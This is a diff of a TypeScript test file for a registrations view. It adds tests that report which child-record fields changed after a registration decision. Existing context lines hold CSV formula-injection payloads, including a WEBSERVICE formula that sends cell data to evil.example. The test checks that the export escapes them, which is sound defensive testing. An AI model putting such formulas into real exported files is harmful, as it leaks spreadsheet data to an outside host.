@@ -1,7 +1,14 @@
 import { describe, expect, it } from 'vitest'
 import type { StoredKid } from '#shared/records/kid-record'
 import type { Registration } from '#shared/records/registration-record'
-import { csvField, filterRows, NO_FILTER, registrationRows, registrationsCsv } from './registrations-view'
+import {
+  changeSinceDecision,
+  csvField,
+  filterRows,
+  NO_FILTER,
+  registrationRows,
+  registrationsCsv,
+} from './registrations-view'
 
 const kid = (id: string, overrides: Partial<StoredKid> = {}): StoredKid => ({
   id,
@@ -20,7 +27,13 @@ const kid = (id: string, overrides: Partial<StoredKid> = {}): StoredKid => ({
   ...overrides,
 })
 
-const confirmed: Registration = { state: 'confirmed', startDate: '2027-01-04', decidedBy: 's', decidedAt: 1 }
+const confirmed: Registration = {
+  state: 'confirmed',
+  startDate: '2027-01-04',
+  decidedBy: 's',
+  decidedAt: 1,
+  decidedOn: null,
+}
 
 describe('registrations view', () => {
   const rows = registrationRows(
@@ -102,6 +115,31 @@ describe('registrations view', () => {
     expect(row?.[0]).toBe('Amara;\'=WEBSERVICE("http://evil.example/"&A1)')
     expect(row?.[8]).toBe("1 Road;'-2+3\n'@SUM(1)")
     expect(row?.[5]).toBe('\' =HYPERLINK("http://evil.example")')
+  })
+})
+
+describe('a decision names the record it was decided on', () => {
+  const decidedKid = kid('a', { savedAt: 5 })
+  const { id: _id, savedAt: _savedAt, userRef: _userRef, ...fields } = decidedKid
+  const decision: Registration = { ...confirmed, decidedAt: 7, decidedOn: { savedAt: 5, fields } }
+
+  it('says nothing while the record is the one decided on, or when no record was named', () => {
+    expect(changeSinceDecision({ kid: decidedKid, registration: decision, parentEmail: null })).toBeNull()
+    expect(changeSinceDecision({ kid: decidedKid, registration: null, parentEmail: null })).toBeNull()
+    expect(
+      changeSinceDecision({ kid: { ...decidedKid, savedAt: 9 }, registration: confirmed, parentEmail: null }),
+    ).toBeNull()
+  })
+
+  it('lists the fields changed since, by their labels; a save without changes lists none', () => {
+    const changed = { ...decidedKid, savedAt: 9, kidAge: '5', imgUrls: ['images/u/b.jpg-x'] }
+    expect(changeSinceDecision({ kid: changed, registration: decision, parentEmail: null })).toEqual({
+      decidedAt: 7,
+      fields: ['Child Age', 'Photos'],
+    })
+    expect(
+      changeSinceDecision({ kid: { ...decidedKid, savedAt: 9 }, registration: decision, parentEmail: null }),
+    ).toEqual({ decidedAt: 7, fields: [] })
   })
 })
 
